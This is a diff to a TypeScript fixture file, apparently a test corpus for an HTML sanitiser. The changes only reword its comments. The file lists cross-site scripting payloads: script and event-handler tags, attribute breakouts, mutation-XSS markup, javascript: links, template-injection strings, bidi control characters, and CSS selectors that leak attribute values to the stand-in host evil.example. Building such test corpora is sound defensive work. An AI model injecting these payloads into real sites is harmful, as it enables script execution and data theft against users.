@@ -1,14 +1,14 @@
-/** What a payload runs if anything of it runs; the watcher lends every frame a function of that name. */
+/** The call that every payload makes if any of it runs; the watcher defines that function in every frame. */
 const RUN = '__xss(1)'
-/** A host that nobody may be asked at. */
+/** A host that no page may send requests to. */
 const EVIL = '//evil.example'
-/** Put together, so that the linter, which looks for such addresses, finds none. */
+/** Composed, so that the linter, which reports such addresses, finds none. */
 const SCRIPT = ['java', 'script:'].join('')
 
 const onError = `<img src=x onerror=${RUN}>`
 const onLoad = `<svg onload=${RUN}>`
 
-/** Elements that run something by themselves, or by the first thing that happens to them. */
+/** Elements that run a script by themselves, or at the first event on them. */
 const elements = [
   `<script>${RUN}</script>`,
   `<script type=module>${RUN}</script>`,
@@ -100,7 +100,7 @@ const elements = [
   `<table background=${EVIL}/x><td>x</table>`,
 ]
 
-/** What ends the place a text may stand in. */
+/** Endings of the contexts that a text may be in. */
 const endings = [
   '">',
   "'>",
@@ -127,7 +127,7 @@ const endings = [
 ]
 const breakouts = [...endings.map((end) => end + onError), ...endings.slice(0, 8).map((end) => end + onLoad)]
 
-/** What ends an attribute, or the string of a script, and goes on there. */
+/** Endings of an attribute or of a script's string, with a continuation in it. */
 const continuations = [
   `" autofocus onfocus=${RUN} x="`,
   `' autofocus onfocus=${RUN} x='`,
@@ -149,7 +149,7 @@ const continuations = [
   `*/${RUN}/*`,
 ]
 
-/** Markup that becomes another when it is written and read once more. */
+/** Markup that changes its meaning when it is serialised and parsed again. */
 const mutants = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
   `<svg></p><style><a id="</style>${onError}">`,
@@ -168,7 +168,7 @@ const mutants = [
   `<img alt="\`\`onerror=${RUN} src=x">`,
 ]
 
-/** Markup in another writing, which must not be read as markup. */
+/** Encoded markup, which must not be decoded into markup. */
 const encoded = [
   `&lt;img src=x onerror=${RUN}&gt;`,
   `&#60;img src=x onerror=${RUN}&#62;`,
@@ -185,7 +185,7 @@ const encoded = [
   `<\0script>${RUN}</script>`,
 ]
 
-/** Addresses where a text might become one. */
+/** Texts that may become addresses. */
 const links = [
   `${SCRIPT}${RUN}`,
   `JaVa\tScript:${RUN}`,
@@ -196,7 +196,7 @@ const links = [
   `${EVIL}/x`,
 ]
 
-/** Places of templates and of messages, ours and those of others. */
+/** Placeholders of templates and of messages, ours and those of other libraries. */
 const templates = [
   `{{constructor.constructor('${RUN}')()}}`,
   `\${${RUN}}`,
@@ -217,7 +217,7 @@ const templates = [
   'toString',
 ]
 
-/** Signs that turn, hide or pile up what stands beside them. */
+/** Characters that reverse, hide or stack their neighbours. */
 const signs = [
   '\u202egnp.eurt \u202d1 EUR',
   '\u2067\u2066\u2068unclosed',
@@ -233,7 +233,7 @@ const signs = [
   '<\u0338img',
 ]
 
-/** Ends a style sheet, or a rule of one. */
+/** Endings of a style sheet, or of a rule. */
 const sheets = [
   `</style><script>${RUN}</script>`,
   '}*{display:none}',
@@ -243,7 +243,7 @@ const sheets = [
   `"];[value^="4"]{background:url(${EVIL}/4)}`,
 ]
 
-/** Texts that a gateway might say where a name or a sentence is expected. */
+/** Hostile texts that a gateway could send instead of a name or a sentence. */
 export const markup: readonly string[] = [
   ...elements,
   ...breakouts,
